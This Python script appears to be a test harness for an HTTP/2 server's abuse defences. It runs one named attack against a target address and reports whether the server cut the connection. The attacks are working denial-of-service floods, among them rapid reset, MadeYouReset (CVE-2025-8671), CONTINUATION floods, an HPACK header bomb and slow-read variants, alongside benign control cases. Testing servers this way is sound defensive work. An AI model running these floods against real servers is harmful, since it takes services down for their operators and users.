"""Does one kind of abuse over HTTP/2 until it is stopped or has done all of it, and prints what came of it.

`ended CODE after N bytes`, `broken after N bytes` for an end without GOAWAY, or `done`, when it was let do everything.
"""

import argparse
import threading
import time

from http2 import *

parser = argparse.ArgumentParser()
parser.add_argument("--connect", required=True)
parser.add_argument("abuse")
options = parser.parse_args()

NOTHING = struct.pack(">I", CANCEL)


class Flood:
    """Sends pieces while another thread reads."""

    def __init__(self, client, reads=True):
        self.client = client
        self.sent = 0
        self.ended = threading.Event()
        if reads:
            threading.Thread(target=self.follow, daemon=True).start()

    def follow(self):
        try:
            while self.client.read(time.monotonic() + 120):
                pass
        except Exception:
            pass
        self.ended.set()

    def pour(self, piece, count):
        """Sends a piece, or what a function makes of each number, that often, in large writes."""
        batch = b""
        for number in range(count):
            batch += piece(number) if callable(piece) else piece
            if len(batch) < 1 << 14 and number < count - 1:
                continue
            if self.ended.is_set():
                return
            try:
                self.client.socket.sendall(batch)
            except OSError:
                return
            self.sent += len(batch)
            batch = b""

    def tell(self):
        """Waits for the end; a PING that is answered means that there is none."""
        try:
            self.client.socket.sendall(frame(PING, 0, 0, b"the last"))
        except OSError:
            pass
        end = time.monotonic() + 60
        while not self.ended.is_set() and time.monotonic() < end:
            if any(found.kind == PING and found.payload == b"the last" for found in self.client.frames[-20:]):
                print("done", flush=True)
                return
            self.ended.wait(0.005)
        last = [found.number for found in self.client.frames if found.kind == GOAWAY]
        print(f"ended {last[-1]} after {self.sent} bytes" if last else f"broken after {self.sent} bytes", flush=True)


def flood(piece, count=400_000, before=b"", answers=False, **how):
    """Floods a server that has got something else first and, where that is asked for, has answered and ended it."""
    client = Client(options.connect, seconds=120, **how)
    # Acknowledged later, the settings would part a header block.
    client.wait(lambda found: found.kind == SETTINGS and not found.flags & ACK)
    client.raw(before)
    if before == EARLY:
        client.wait(lambda found: found.kind == RST_STREAM)
    elif answers:
        client.wait(lambda found: found.kind == DATA and found.flags & END_STREAM)
    it = Flood(client)
    it.pour(piece, count)
    it.tell()


def stream(number):
    return 2 * number + 1


def request(number, *more, flags=END_HEADERS | END_STREAM, path="/", method="GET"):
    return frame(HEADERS, flags, stream(number), block(get(path, *more, method=method)))


OPEN = request(0, flags=END_HEADERS, path="/hold", method="POST")
# Answered by the edge, while its client has not ended it.
EARLY = request(0, flags=END_HEADERS, path="/", method="TRACE")
BOMB = literal("x-bomb", "b" * 3900, indexed=True)


def made_you_reset(cause):
    """The server resets the streams, and the member works on (CVE-2025-8671)."""
    return lambda number: request(number, flags=END_HEADERS, path="/hold", method="POST") + cause(stream(number))


def bomb(number):
    """A head of 16 KB that is decoded to 60 MB."""
    first = BOMB if number == 0 else b""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream(number), block(get("/hold")) + first + b"\xbe" * 12_000)


def refused():
    """A stream beyond those that there may be, whose client goes on as if it were open."""
    client = Client(options.connect, seconds=120, acknowledges=False)
    client.read()
    streams = client.settings_from_peer[MAX_CONCURRENT_STREAMS]
    for number in range(streams + 1):
        client.raw(request(number, flags=END_HEADERS, path="/hold", method="POST"))
    client.wait(lambda found: found.kind == RST_STREAM)
    it = Flood(client)
    it.pour(frame(DATA, 0, stream(streams)), 400_000)
    it.tell()


def held_windows():
    """Answers that nobody takes, on as many streams as there may be."""
    client = Client(options.connect, own_settings=settings((INITIAL_WINDOW_SIZE, 0)), seconds=60)
    client.read()
    for _ in range(client.settings_from_peer[MAX_CONCURRENT_STREAMS]):
        client.get("/big/1000000", ("x-padding", "p" * 12_000))
    while sum(answer.status == 200 for answer in client.answers.values()) < 128:
        client.read()
    print("held", flush=True)
    input()
    while sum(answer.reset == CANCEL for answer in client.answers.values()) < 128:
        client.read()
    print("reset", flush=True)


def pause(client):
    """Reads for a moment."""
    end = time.monotonic() + 0.02
    try:
        while client.read(end):
            pass
    except Failure:
        pass


def dripping_content():
    """A request whose content comes a byte at a time, and is never silent."""
    client = Client(options.connect, seconds=60)
    stream = client.get("/hold", method="POST", end=False)
    answer = client.answers.setdefault(stream, Answer())
    while not answer.is_whole and not client.has_ended:
        client.send(DATA, 0, stream, b"x")
        pause(client)
    print("status", answer.status, flush=True)


def dripping_windows():
    """An answer that is taken some bytes at a time."""
    client = Client(options.connect, own_settings=settings((INITIAL_WINDOW_SIZE, 0)), seconds=60)
    stream = client.get("/big/1000000")
    answer = client.answers.setdefault(stream, Answer())
    while answer.reset is None and not answer.is_whole and not client.has_ended:
        client.window(500, stream)
        pause(client)
    print("reset", answer.reset, len(answer.content) < 1_000_000, flush=True)


def idle_streams():
    """Requests that never end, on as many streams as there may be."""
    client = Client(options.connect, seconds=60)
    client.read()
    for _ in range(client.settings_from_peer[MAX_CONCURRENT_STREAMS]):
        client.get("/hold", method="POST", end=False)
    while len([answer for answer in client.answers.values() if answer.is_whole]) < 128:
        client.read()
    print("statuses", {answer.status for number, answer in client.answers.items() if number}, flush=True)


def unread():
    """Frames that ask for others which are never read."""
    client = Client(options.connect, seconds=120)
    it = Flood(client, reads=False)
    it.pour(frame(PING, 0, 0, bytes(8)), 2_000_000)
    it.follow()
    it.tell()


def half_a_block():
    """A header block that never ends."""
    client = Client(options.connect, seconds=60)
    client.expect_alive()
    client.send(HEADERS, END_STREAM, 3, block(get()))
    print("ended", client.expect_end().number, flush=True)


def idle_connection():
    """A connection on which nothing is asked for."""
    client = Client(options.connect, seconds=60)
    print("ended", client.expect_end().number, flush=True)


def quiet():
    """A connection that falls silent after some requests."""
    client = Client(options.connect, seconds=60)
    for _ in range(3):
        client.expect_answer(client.get("/1"))
    print("quiet", flush=True)
    print("ended", client.expect_end().number, flush=True)


def early_answers():
    """Uploads that are answered whole before their ends: not abuse."""
    client = Client(options.connect, seconds=60)
    for _ in range(300):
        client.expect_answer(client.get("/wholly", method="POST", end=False))
    client.expect_alive()
    print("done", flush=True)
    client.close()


def lively():
    """What a browser does when its user leaves page after page: not abuse."""
    client = Client(options.connect, seconds=60)
    for _ in range(10):
        streams = [client.get("/hold") for _ in range(30)]
        for number in streams:
            client.send(RST_STREAM, 0, number, NOTHING)
        client.expect_alive()
    print("done", flush=True)


ABUSES = {
    "rapid reset": lambda: flood(lambda number: request(number, path="/hold")
                                 + frame(RST_STREAM, 0, stream(number), NOTHING)),
    "rapid reset of uploads": lambda: flood(
        lambda number: request(number, flags=END_HEADERS, path="/hold", method="POST")
        + frame(DATA, 0, stream(number), b"x") + frame(RST_STREAM, 0, stream(number), NOTHING)),
    "reset by a window of 0": lambda: flood(made_you_reset(lambda number: frame(WINDOW_UPDATE, 0, number, bytes(4)))),
    "reset by a window beyond its bound": lambda: flood(made_you_reset(
        lambda number: frame(WINDOW_UPDATE, 0, number, struct.pack(">I", (1 << 31) - 1)))),
    "reset by DATA behind the end": lambda: flood(made_you_reset(
        lambda number: frame(DATA, END_STREAM, number, b"x") + frame(DATA, 0, number, b"x"))),
    "reset by a length that is not kept": lambda: flood(
        lambda number: request(number, ("content-length", "5"), flags=END_HEADERS, path="/hold", method="POST")
        + frame(DATA, END_STREAM, stream(number), b"x")),
    "refused heads": lambda: flood(lambda number: request(number, ("x-bad", "a\0b"))),
    "CONTINUATION without end": lambda: flood(
        frame(CONTINUATION, 0, 1, literal("x", "y" * 1000)), before=frame(HEADERS, END_STREAM, 1, block(get()))),
    "empty CONTINUATION": lambda: flood(
        frame(CONTINUATION, 0, 1), before=frame(HEADERS, END_STREAM, 1, block(get()))),
    "few CONTINUATIONs on many streams": lambda: flood(
        lambda number: frame(HEADERS, END_STREAM, stream(number), block(get("/hold")))
        + frame(CONTINUATION, 0, stream(number)) * 3 + frame(CONTINUATION, END_HEADERS, stream(number))
        + frame(RST_STREAM, 0, stream(number), NOTHING)),
    "header bomb": lambda: flood(bomb, 2_000),
    "cookie crumbs": lambda: flood(
        lambda number: frame(HEADERS, END_HEADERS | END_STREAM, stream(number),
                             block(get("/hold")) + literal("cookie", "", True) + b"\xbe" * 16_000), 2_000),
    "SETTINGS": lambda: flood(frame(SETTINGS, 0, 0)),
    "SETTINGS with values": lambda: flood(frame(SETTINGS, 0, 0, settings((INITIAL_WINDOW_SIZE, 1)) * 100)),
    "PING": lambda: flood(frame(PING, 0, 0, bytes(8))),
    "PRIORITY": lambda: flood(lambda number: frame(PRIORITY, 0, stream(number), struct.pack(">IB", 0, 1))),
    "PRIORITY_UPDATE": lambda: flood(
        lambda number: frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream(number)) + b"u=1")),
    "empty DATA": lambda: flood(frame(DATA, 0, 1), before=OPEN),
    "DATA of padding": lambda: flood(frame(DATA, PADDED, 1, b"\0"), before=OPEN),
    "frames of unknown types": lambda: flood(frame(0x77, 0, 0)),
    "tiny windows": lambda: flood(
        frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), before=request(0, path="/big/1000000"),
        own_settings=settings((INITIAL_WINDOW_SIZE, 0))),
    "windows for nothing": lambda: flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "large windows for nothing": lambda: flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1000))),
    "windows of a stream that is over": lambda: flood(
        frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1000)), before=request(0, path="/1"), answers=True),
    "acknowledgements of PINGs that nobody has sent": lambda: flood(frame(PING, ACK, 0, bytes(8))),
    "acknowledgements of SETTINGS": lambda: flood(frame(SETTINGS, ACK, 0)),
    "PRIORITY of one stream": lambda: flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
    "empty DATA behind the end": lambda: flood(frame(DATA, 0, 1), before=request(0, path="/1"), answers=True),
    "empty DATA behind a reset": lambda: flood(
        frame(DATA, 0, 1), before=OPEN + frame(RST_STREAM, 0, 1, NOTHING)),
    "empty DATA behind an early answer": lambda: flood(frame(DATA, 0, 1), before=EARLY),
    "trailers behind an early answer": lambda: flood(
        frame(HEADERS, END_HEADERS | END_STREAM, 1, literal("x", "y")), before=EARLY),
    "DATA on a refused stream": refused,
    "answers that nobody reads": unread,
    "held windows": held_windows,
    "idle streams": idle_streams,
    "dripping content": dripping_content,
    "dripping windows": dripping_windows,
    "half a block": half_a_block,
    "idle connection": idle_connection,
    "quiet": quiet,
    "lively": lively,
    "early answers": early_answers,
}

ABUSES[options.abuse]()
